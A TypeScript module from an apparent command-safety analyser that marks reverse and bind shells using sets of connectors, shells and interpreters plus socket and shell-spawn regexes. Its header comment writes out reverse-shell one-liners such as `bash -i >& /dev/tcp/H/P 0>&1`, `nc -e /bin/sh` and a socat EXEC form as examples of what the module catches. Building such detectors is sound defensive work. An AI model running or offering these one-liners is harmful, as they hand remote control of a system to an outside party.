import { finding, display } from '../rules';
import type { AnalyzedCommand } from '../types';

/*
 * Reverse and bind shells, as GTFOBins lists them ("reverse shell" / "bind shell" sections): a shell whose input
 * and output are a network connection. The forms:
 *   - a shell reading commands from standard input on a line that opens a connection: `bash -i >& /dev/tcp/H/P 0>&1`,
 *     `mkfifo f; cat f | sh -i 2>&1 | nc H P > f`, `telnet H P | /bin/sh | telnet H P2`, `openssl s_client ... | sh`;
 *   - a connector told to run a program: `nc -e /bin/sh`, `nc -c sh`, `ncat --exec/--sh-exec/--lua-exec`,
 *     `socat EXEC:'bash -li',pty TCP:H:P`, `rcat connect -s bash H P`; pwncat, whose purpose is this;
 *   - inline interpreter code that opens a socket and starts a shell or hands it the socket: python, perl, ruby,
 *     php, node, lua, tclsh, and awk's `/inet/tcp/` special files.
 */

const shells = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'yash', 'fish', 'csh', 'tcsh', 'rbash']);
const connectors = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'cryptcat', 'telnet', 'socat', 'openssl', 'rcat', 'pwncat', 'pwncat-cs', 'ztcp', 'sbd']);
const interpreters = /^(python[\d.]*|pypy[\d.]*|perl[\d.]*|ruby[\d.]*|irb|php[\d.]*|node|nodejs|bun|deno|lua[\d.]*|luajit|tclsh[\d.]*|wish|awk|gawk|mawk|nawk|busybox)$/;

/** Code that opens a network socket. */
const socketCode = /\bsocket\b|\bSocket\b|fsockopen|TCPSocket|UDPSocket|IO::Socket|\/inet\/(tcp|udp)\/|\bnet\.(connect|createConnection|Socket)\b|require\(\s*['"]net['"]\s*\)|\bsocket\.tcp\b|\bsocket\s+-?\w*\s*[\w.]+\s+\d+|Deno\.connect|Bun\.connect|\/dev\/(tcp|udp)\//;
/** Code that starts a shell or binds standard streams to a descriptor. */
const shellCode = /pty\.spawn|\bsubprocess\b|os\.dup2|\bdup2\b|\bexec[lv]?p?e?\s*[("'`]|\bsystem\s*[("'`]|shell_exec|proc_open|\bpopen\b|passthru|\bspawn(Sync)?\s*\(|child_process|\/bin\/(ba|z|da|k)?sh\b|\b(ba|z|da)?sh\s+-i\b|cmd\.exe|powershell|\|&|io\.popen|os\.execute|\bopen\s*\(\s*STDIN|\bfork\b|`[^`]*`/;

const isStdinShell = (c: AnalyzedCommand): boolean => {
  if (!shells.has(c.name)) return false;
  const args = c.argv.slice(1);
  if (args.some((a) => /^-[a-zA-Z]*i[a-zA-Z]*$/.test(a) || a === '--interactive')) return true;
  // No `-c` text and no script file: the shell reads its commands from standard input.
  return !args.some((a) => /^-[a-zA-Z]*c[a-zA-Z]*$/.test(a)) && args.every((a) => a.startsWith('-') || a.startsWith('+'));
};

/** An interactive or login shell whose own redirections open the connection (`bash -l > /dev/tcp/H/P 0<&1`). */
const loginShellOnSocket = (c: AnalyzedCommand): boolean =>
  shells.has(c.name) && opensSocket(c) && c.argv.slice(1).some((a) => /^-[a-zA-Z]*[il][a-zA-Z]*$/.test(a) || a === '--login' || a === '--interactive');

const opensSocket = (c: AnalyzedCommand): boolean => connectors.has(c.name) || c.findings.some((f) => f.rule === 'shell.remote-shell' && /\/dev\/(tcp|udp)/.test(f.reason));

/** A value of `-e`/`-c` that names a program (LibreSSL's nc also has `-c` for TLS and `-e` for a server name). */
const programLike = /(^|\/)(ba|z|da|k|mk|c|tc)?sh(\s|$)|python|perl|ruby|php|node|lua|cmd(\.exe)?|powershell|^\//;

/** nc/ncat's program options: `--exec`, `--sh-exec`, `--lua-exec`, `-e`/`-c` (also clustered, `-nve /bin/sh`, or joined, `-e/bin/sh`). */
function ncRuns(argv: readonly string[]): boolean {
  return argv.some((a, i) => {
    if (/^--(exec|sh-exec|lua-exec)$/.test(a)) return argv[i + 1] !== undefined;
    if (/^--(exec|sh-exec|lua-exec)=/.test(a)) return true;
    if (/^-[a-zA-Z]*[ec]$/.test(a)) return programLike.test(argv[i + 1] ?? '');
    const joined = /^-[a-zA-Z]*?[ec](\/.*)$/.exec(a);
    return joined !== null && programLike.test(joined[1]!);
  });
}

function runsProgram(c: AnalyzedCommand): boolean {
  const argv = c.argv.slice(1);
  switch (c.name) {
    case 'nc':
    case 'ncat':
    case 'netcat':
    case 'nc.traditional':
    case 'cryptcat':
    case 'sbd':
      return ncRuns(argv);
    case 'socat':
      return argv.some((a) => /^(EXEC|SYSTEM):/i.test(a)) && argv.some((a) => /^(TCP|TCP4|TCP6|UDP|UDP4|UDP6|SSL|OPENSSL|SCTP|SOCKS4A?|PROXY)[\w-]*:/i.test(a));
    case 'rcat':
      return argv.some((a) => /^(-s|--shell|-e|--exec)(=|$)/.test(a));
    case 'pwncat':
    case 'pwncat-cs':
      return true;
    default:
      return false;
  }
}

function inlineReverseShell(c: AnalyzedCommand): boolean {
  if (!interpreters.test(c.name)) return false;
  const text = c.argv.slice(1).join(' ');
  return socketCode.test(text) && shellCode.test(text);
}

/**
 * Adds a `shell.reverse-shell` finding to every command of a line that is, or completes, a reverse or bind shell.
 * A separate pass over the analysed commands, so the interpreters' and connectors' own classifiers stay as they are.
 */
export function markReverseShells(commands: AnalyzedCommand[]): AnalyzedCommand[] {
  const lineConnects = commands.some(opensSocket);
  return commands.map((c) => {
    const hit = runsProgram(c) || inlineReverseShell(c) || (lineConnects && isStdinShell(c)) || loginShellOnSocket(c);
    if (!hit || c.findings.some((f) => f.rule === 'shell.reverse-shell')) return c;
    return { ...c, findings: [...c.findings, finding('shell.reverse-shell', display(c.argv))] };
  });
}
